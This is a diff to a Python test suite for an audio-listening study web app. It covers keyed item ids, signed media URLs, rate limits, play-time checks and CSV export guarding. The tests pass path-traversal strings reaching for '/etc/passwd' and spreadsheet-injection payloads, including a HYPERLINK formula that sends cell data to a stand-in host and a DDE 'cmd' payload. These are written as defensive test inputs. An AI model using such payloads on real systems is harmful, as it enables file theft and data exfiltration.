@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import csv
 import hashlib
+import hmac
 import http.client
+import time
 import io
 import json
 import sqlite3
@@ -34,14 +36,29 @@ def client(live):
         yield c
 
 
+def _keyed(live, frame: pd.DataFrame) -> pd.DataFrame:
+    """`frame` with the public id of each row, computed here by hand: HMAC-SHA256 keyed by the database's secret."""
+    secret = bytes.fromhex(live.store.secret)
+    return frame.assign(item_id=[hmac.new(secret, f"item\0{s}/{d}/{u}".encode(), hashlib.sha256).hexdigest()[:16]
+                                 for s, d, u in zip(frame["split"], frame["dialogue_id"], frame["utterance_id"])])
+
+
 def _items(live) -> pd.DataFrame:
-    return pd.read_csv(live.root / "data" / "study" / "items.csv", dtype=str, keep_default_na=False)
+    return _keyed(live, pd.read_csv(live.root / "data" / "study" / "items.csv", dtype=str, keep_default_na=False))
+
+
+def _queue(live) -> pd.DataFrame:
+    return _keyed(live, pd.read_csv(live.root / "data" / "study" / "review_queue.csv", dtype=str,
+                                    keep_default_na=False))
 
 
 def _join(client, **demographics):
     r = client.post("/api/participants", json={"consent": True, **demographics})
     assert r.status_code == 201, r.text
     return r.json()
+
+
+PLAYED = 0.3   # the test tones last 0.3 s: a full play
 
 
 def _auth(token):
@@ -83,7 +100,7 @@ def test_an_answer_counts_once_and_the_participant_resumes_where_they_stopped(li
     first, second = questions[0], questions[1]
     r = client.post("/api/answers", headers=_auth(token),
                     json={"participant_id": pid, "question_id": first["question_id"], "choice": first["options"][1],
-                          "media_played_s": 0.3})
+                          "media_played_s": PLAYED})
     assert r.status_code == 201 and r.json() == {"status": "recorded", "recorded": True,
                                                  "choice": first["options"][1], "remaining": 5}
     for choice in first["options"]:   # a repeat, even with the other option, changes nothing and says so
@@ -105,7 +122,7 @@ def test_finishing_marks_the_participant_complete(live, client):
     for q in joined["questions"]:
         client.post("/api/answers", headers=_auth(joined["token"]),
                     json={"participant_id": joined["participant_id"], "question_id": q["question_id"],
-                          "choice": q["options"][0]})
+                          "choice": q["options"][0], "media_played_s": PLAYED})
     me = client.get("/api/participants/me", headers=_auth(joined["token"])).json()
     assert me["completed"] and me["remaining"] == 0
     with sqlite3.connect(live.store.path) as con:
@@ -202,7 +219,6 @@ def _raw_get(live, path: str) -> int:
     "/static/../app.py",
     "/static/..%2fapp.py",
     "/static/%2e%2e/%2e%2e/params.py",
-    "/media/0123456789abcdef/audio",        # well-formed id, not in the study set
     "/media/0123456789abcdef/../../etc/passwd",
 ])
 def test_media_routes_serve_nothing_outside_the_study_set(live, path):
@@ -211,10 +227,12 @@ def test_media_routes_serve_nothing_outside_the_study_set(live, path):
 
 def test_media_kind_and_id_must_match_the_study_set(live, client):
     item = live.catalog.preference[0]
-    assert client.get(f"/media/{item.item_id}/audio").status_code == 200
-    assert client.get(f"/media/{item.item_id}/video").status_code == 404    # no video for this item
-    assert client.get(f"/media/{item.item_id}/passwd").status_code == 404
-    assert client.get(f"/media/{item.item_id.upper()}/audio").status_code == 404
+    staff = _auth(_reviewer(live))
+    assert client.get(f"/media/{item.item_id}/audio", headers=staff).status_code == 200
+    assert client.get(f"/media/{item.item_id}/video", headers=staff).status_code == 404    # no video for this item
+    assert client.get(f"/media/{item.item_id}/passwd", headers=staff).status_code == 404
+    assert client.get(f"/media/{item.item_id.upper()}/audio", headers=staff).status_code == 404
+    assert client.get("/media/0123456789abcdef/audio", headers=staff).status_code == 404   # well-formed, unknown
 
 
 def test_pages_are_served_with_a_strict_content_security_policy(live, client):
@@ -238,7 +256,7 @@ def test_review_queue_needs_a_reviewer_token(live, client):
     token = _reviewer(live)
     r = client.get("/api/review/queue", headers=_auth(token), params={"limit": 500})
     assert r.status_code == 200
-    queue = pd.read_csv(live.root / "data" / "study" / "review_queue.csv", dtype=str, keep_default_na=False)
+    queue = _queue(live)
     data = r.json()
     assert data["total"] == len(queue) and [i["item_id"] for i in data["items"]] == list(queue["item_id"])
     first = data["items"][0]
@@ -247,6 +265,7 @@ def test_review_queue_needs_a_reviewer_token(live, client):
     assert (llm["source"], llm["label"], llm["score"]) == ("llm", queue["llm_label"][0], 1.0)
     assert llm["voice"] == {"loudness": "moderate", "pitch": "medium pitch", "rhythm_speed": "moderate",
                             "emotional_impact": "calm"}
+    assert first["panel"] is None and llm["agent"] == "MELT LLM"   # no panel.json: the single LLM, as before
 
 
 def test_review_decisions_keep_their_source_reviewer_and_note(live, client):
@@ -286,9 +305,10 @@ def test_review_decisions_keep_their_source_reviewer_and_note(live, client):
 
 def _answer_all(client, joined, pick=0):
     for q in joined["questions"]:
-        client.post("/api/answers", headers=_auth(joined["token"]),
-                    json={"participant_id": joined["participant_id"], "question_id": q["question_id"],
-                          "choice": q["options"][pick]})
+        r = client.post("/api/answers", headers=_auth(joined["token"]),
+                        json={"participant_id": joined["participant_id"], "question_id": q["question_id"],
+                              "choice": q["options"][pick], "media_played_s": PLAYED})
+        assert r.status_code == 201, r.text
 
 
 def test_exports_match_the_database_and_hold_no_token(live, client):
@@ -351,3 +371,239 @@ def test_cli_adds_reviewers_and_exports_what_the_api_exports(live, client, tmp_p
     bad = subprocess.run(["melt-study", "--db", db, "reviewer", "add", "<bob>"], cwd=tmp_path, capture_output=True,
                          text=True, env=run_env())
     assert bad.returncode != 0 and "reviewer name" in bad.stderr
+
+
+# --- issue 18: keyed ids, guarded media, sign-up limits, balance, play time, CSV guard, context ------------------
+
+def test_an_item_id_cannot_be_guessed_from_its_key(live, client, tmp_path):
+    """The ids are HMACs keyed by a secret of the database: the unsalted hash of the key (the old id), or the same
+    construction under another database's secret, matches no question, and a guessed id serves nothing."""
+    from melt.study.catalog import load_catalog
+    from melt.study.store import StudyStore
+
+    joined = _join(client)
+    items = _items(live).set_index("item_id")
+    assert {q["question_id"] for q in joined["questions"]} <= set(items.index)   # the hand-made HMAC, exactly
+    other = StudyStore(tmp_path / "other.db")
+    assert other.secret != live.store.secret and len(live.store.secret) == 64
+    elsewhere = {i.item_id for i in load_catalog(live.root / "data" / "study", live.root, other.secret).preference}
+    staff = _auth(_reviewer(live))
+    for q in joined["questions"]:
+        row = items.loc[q["question_id"]]
+        key = f"{row['split']}/{row['dialogue_id']}/{row['utterance_id']}"
+        unsalted = hashlib.sha256(key.encode()).hexdigest()[:16]
+        assert unsalted not in items.index and q["question_id"] not in elsewhere
+        assert client.get(f"/media/{unsalted}/audio", headers=staff).status_code == 404
+    assert key not in (live.root / "data" / "study" / "items.csv").read_text().split(",")   # no id in the DVC output
+    assert "item_id" not in (live.root / "data" / "study" / "items.csv").read_text().splitlines()[0]
+
+
+def test_media_need_a_token_or_an_unexpired_signed_url(live, client):
+    from melt.study.keys import media_signature
+
+    a, b = _join(client), _join(client)
+    mine = a["questions"][0]
+    item = mine["question_id"]
+    path = f"/media/{item}/audio"
+    assert client.get(path).status_code == 401                                             # no token, no signature
+    assert client.get(path, headers=_auth("not-a-token")).status_code == 401
+    assert client.get(path, headers=_auth(a["token"])).status_code == 200                  # own question
+    assert item not in {q["question_id"] for q in b["questions"]}
+    assert client.get(path, headers=_auth(b["token"])).status_code == 403                  # someone else's
+    assert client.get(path, headers=_auth(_reviewer(live))).status_code == 200
+    signed = client.get(mine["media_url"], headers={"Range": "bytes=0-99"})                # what the page plays
+    assert signed.status_code == 206 and len(signed.content) == 100
+    secret = live.store.secret
+    past = int(time.time()) - 1
+    expired = f"{path}?expires={past}&sig={media_signature(secret, item, 'audio', past)}"
+    assert client.get(expired).status_code == 403
+    later = int(time.time()) + 600
+    good_sig = media_signature(secret, item, "audio", later)
+    assert client.get(f"{path}?expires={later}&sig={good_sig}").status_code == 200
+    forged = [f"{path}?expires={later + 1}&sig={good_sig}",                                # extended expiry
+              f"/media/{b['questions'][0]['question_id']}/audio?expires={later}&sig={good_sig}",   # other item
+              f"{path}?expires={later}&sig={'0' * 64}", f"{path}?expires={later}", f"{path}?sig={good_sig}"]
+    for url in forged:
+        assert client.get(url).status_code == 403, url
+
+
+def test_a_full_study_refuses_the_next_participant(tmp_path):
+    build_study(tmp_path, StudyParams(per_label=3, attention_items=3))
+    app = LiveApp(tmp_path, questions=5, attention=1, max_participants=2)
+    try:
+        with httpx.Client(base_url=app.url, timeout=30) as c:
+            _join(c), _join(c)
+            r = c.post("/api/participants", json={"consent": True})
+            assert r.status_code == 403 and "the study is full" in r.json()["detail"]
+        assert _rows(app, "participants") == 2 and _rows(app, "questions") == 12
+    finally:
+        app.stop()
+
+
+def test_sign_ups_are_rate_limited_per_client_address(tmp_path):
+    build_study(tmp_path, StudyParams(per_label=3, attention_items=3))
+    app = LiveApp(tmp_path, questions=5, attention=1, participants_per_minute=2)
+    try:
+        with httpx.Client(base_url=app.url, timeout=30) as c:
+            here, there = {"X-Forwarded-For": "203.0.113.7"}, {"X-Forwarded-For": "198.51.100.9"}
+            statuses = [c.post("/api/participants", json={"consent": True}, headers=here).status_code
+                        for _ in range(3)]
+            assert statuses == [201, 201, 429]
+            limited = c.post("/api/participants", json={"consent": True}, headers=here)
+            assert limited.status_code == 429 and limited.headers["retry-after"] == "30"
+            assert c.post("/api/participants", json={"consent": True}, headers=there).status_code == 201
+        assert _rows(app, "participants") == 3
+    finally:
+        app.stop()
+
+
+def test_items_are_balanced_on_answers_and_abandoned_questions_return(live, client):
+    """Load per item = answers given + open questions of participants active within the timeout. A participant
+    idle for longer than `assignment_timeout_min` gives their unanswered items back."""
+    store, pref, att = live.store, live.catalog.preference, live.catalog.attention
+    first, _ = store.create_participant({}, pref, att, 5, 0)
+    held = {q["item_id"] for q in store.questions(first)}
+    answered = sorted(held)[:2]
+    for iid in answered:
+        q = next(x for x in store.questions(first) if x["item_id"] == iid)
+        store.record_answer(first, iid, q["option_a"], PLAYED)
+    # Active: a second participant avoids all five of first's items (16 others are free).
+    second, _ = store.create_participant({}, pref, att, 5, 0)
+    assert not held & {q["item_id"] for q in store.questions(second)}
+    # First and second go idle past the timeout: their open questions weigh nothing, their answers still count.
+    with sqlite3.connect(store.path) as con:
+        con.execute("UPDATE participants SET last_active_at = '2000-01-01T00:00:00.000Z'")
+    load = {}
+    with sqlite3.connect(store.path) as con:
+        con.row_factory = sqlite3.Row
+        load = store.item_load(con, "2020-01-01T00:00:00.000Z")
+    assert {i: n for i, n in load.items() if n} == {i: 1 for i in answered}   # by hand: only the two answers count
+    third, _ = store.create_participant({}, pref, att, 19, 0)
+    got = {q["item_id"] for q in store.questions(third)}
+    assert not set(answered) & got and len(got) == 19   # every item but the two answered ones is back in the pool
+
+
+def _report(live, tmp_path):
+    from melt.study.report import run as report
+
+    report(live.store, StudyParams().labels, 0, tmp_path / "m.json", tmp_path / "reports")
+    return json.loads((tmp_path / "reports" / "summary.json").read_text())
+
+
+def test_an_answer_without_enough_play_time_is_refused_and_counted_by_the_report(live, client, tmp_path):
+    joined = _join(client)
+    q = next(x for x in joined["questions"] if x["question_id"] in {i.item_id for i in live.catalog.preference})
+    body = {"participant_id": joined["participant_id"], "question_id": q["question_id"], "choice": q["options"][0]}
+    for played in (0.1, None):   # 0.1 s of a 0.3 s clip (0.27 s needed), and no play time at all
+        r = client.post("/api/answers", headers=_auth(joined["token"]),
+                        json={**body, **({} if played is None else {"media_played_s": played})})
+        assert r.status_code == 422 and "0.270 s are needed" in r.json()["detail"]
+    assert _rows(live, "answers") == 0 and _rows(live, "play_refusals") == 2
+    ok = client.post("/api/answers", headers=_auth(joined["token"]), json={**body, "media_played_s": 0.27})
+    assert ok.status_code == 201
+    summary = _report(live, tmp_path)
+    assert summary["play_time"] == {"short_play_answers_flagged": 0, "preference_answers_left_out": 0,
+                                    "short_play_answers_refused": 2, "participants_refused": 1}
+    assert summary["overall"]["answers"] == 1
+
+
+def test_with_play_check_flag_a_short_answer_is_kept_flagged_and_left_out(tmp_path):
+    build_study(tmp_path, StudyParams(per_label=3, attention_items=3))
+    app = LiveApp(tmp_path, questions=5, attention=0, play_check="flag")
+    try:
+        with httpx.Client(base_url=app.url, timeout=30) as c:
+            joined = _join(c)
+            for n, q in enumerate(joined["questions"]):
+                r = c.post("/api/answers", headers=_auth(joined["token"]),
+                           json={"participant_id": joined["participant_id"], "question_id": q["question_id"],
+                                 "choice": q["options"][0], "media_played_s": 0.1 if n < 2 else PLAYED})
+                assert r.status_code == 201
+        with sqlite3.connect(app.store.path) as con:
+            assert sorted(r[0] for r in con.execute("SELECT played_enough FROM answers")) == [0, 0, 1, 1, 1]
+        summary = _report(app, tmp_path)
+        assert summary["play_time"] == {"short_play_answers_flagged": 2, "preference_answers_left_out": 2,
+                                        "short_play_answers_refused": 0, "participants_refused": 0}
+        assert summary["overall"]["answers"] == 3
+        people = pd.read_csv(tmp_path / "reports" / "participants.csv")
+        assert people["short_play_flagged"].tolist() == [2]
+    finally:
+        app.stop()
+
+
+def test_csv_exports_neutralise_spreadsheet_formulas(live, client):
+    from melt.study.exports import neutralise
+
+    token = _reviewer(live)
+    queue = client.get("/api/review/queue", headers=_auth(token)).json()["items"]
+    notes = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
+             "\tTAB", "plain note", "a=b"]
+    for item, note in zip(queue, notes):
+        r = client.post("/api/review/decisions", headers=_auth(token),
+                        json={"item_id": item["item_id"], "source": "llm", "note": note})
+        assert r.status_code == 201
+    rows = list(csv.DictReader(io.StringIO(client.get("/api/review/export", headers=_auth(token),
+                                                      params={"format": "csv"}).text)))
+    assert [r["note"] for r in rows] == ["'" + n for n in notes[:5]] + notes[5:]
+    for r in rows:   # no cell of the CSV starts a formula
+        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())
+    json_notes = [d["note"] for d in client.get("/api/review/export", headers=_auth(token)).json()["decisions"]]
+    assert json_notes == notes   # JSON keeps the text as written
+    assert neutralise(-2.5) == -2.5 and neutralise("=1") == "'=1"   # numbers are not text
+
+
+def test_review_queue_pages_by_rank_and_shows_playable_preceding_turns(live, client):
+    token = _reviewer(live)
+    queue = _queue(live)
+    context = pd.read_csv(live.root / "data" / "study" / "context.csv", dtype=str, keep_default_na=False)
+    first = client.get("/api/review/queue", headers=_auth(token), params={"status": "open", "limit": 4}).json()
+    assert [i["item_id"] for i in first["items"]] == list(queue["item_id"][:4]) and first["more"] is True
+    client.post("/api/review/decisions", headers=_auth(token), json={"item_id": first["items"][0]["item_id"],
+                                                                     "source": "llm"})
+    # A decision does not shift the next page: it starts after the last rank shown.
+    after = first["items"][-1]["queue_rank"]
+    second = client.get("/api/review/queue", headers=_auth(token),
+                        params={"status": "open", "limit": 4, "after": after}).json()
+    assert [i["item_id"] for i in second["items"]] == list(queue["item_id"][4:8])
+    last = client.get("/api/review/queue", headers=_auth(token),
+                      params={"status": "all", "limit": 500, "after": 4}).json()
+    assert last["more"] is False and len(last["items"]) == len(queue) - 4
+    with_turns = 0
+    for item in last["items"]:
+        row = queue.set_index("item_id").loc[item["item_id"]]
+        turns = context[(context["split"] == row["split"]) & (context["dialogue_id"] == row["dialogue_id"])
+                        & (context["utterance_id"] == row["utterance_id"])]
+        assert [(t["turn"], t["speaker"], t["text"]) for t in item["context"]] == [
+            (int(n), s, u) for n, s, u in zip(turns["turn"], turns["Speaker"], turns["Utterance"])]
+        for t, path in zip(item["context"], turns["audio_path"]):
+            media = client.get(t["media_url"])     # signed, like the utterance's own clip
+            assert media.status_code == 200 and media.content == (live.root / path).read_bytes()
+        with_turns += bool(item["context"])
+    assert with_turns > 0
+
+
+def test_a_panel_shows_each_annotators_label_and_input(tmp_path):
+    from study_helpers import demo_rows, write_melt_dir
+
+    rows = demo_rows(tmp_path, per_label=2, agree=1)
+    for r in rows:
+        r.update(panel_agreement="0.5", label_text_llm=r["llm_label"], label_audio_llm="neutral")
+    write_melt_dir(tmp_path, rows, extra_columns=("panel_agreement", "label_text_llm", "label_audio_llm"))
+    (tmp_path / "data" / "melt" / "panel.json").write_text(json.dumps({"aggregate": "dawid-skene", "annotators": {
+        "text_llm": {"backend": "openai", "model": "gpt-4o", "input": "text", "prompt": "melt-v1"},
+        "audio_llm": {"backend": "openai", "model": "qwen2-audio", "input": "text+audio", "prompt": "melt-av"}}}))
+    from melt.study.items import build_study_set
+
+    build_study_set(StudyParams(per_label=2, attention_items=1), tmp_path / "data" / "melt",
+                    tmp_path / "data" / "study", tmp_path / "audio", tmp_path / "data" / "prepared")
+    app = LiveApp(tmp_path)
+    try:
+        with httpx.Client(base_url=app.url, timeout=30) as c:
+            item = c.get("/api/review/queue", headers=_auth(app.store.add_reviewer("ann"))).json()["items"][0]
+        assert item["panel"] == {"aggregate": "dawid-skene", "agreement": 0.5, "annotators": [
+            {"name": "text_llm", "label": item["suggestions"][1]["label"], "backend": "openai", "model": "gpt-4o",
+             "input": "text", "prompt": "melt-v1"},
+            {"name": "audio_llm", "label": "neutral", "backend": "openai", "model": "qwen2-audio",
+             "input": "text+audio", "prompt": "melt-av"}]}
+        assert item["suggestions"][1]["agent"] == "MELT panel"
+    finally:
+        app.stop()
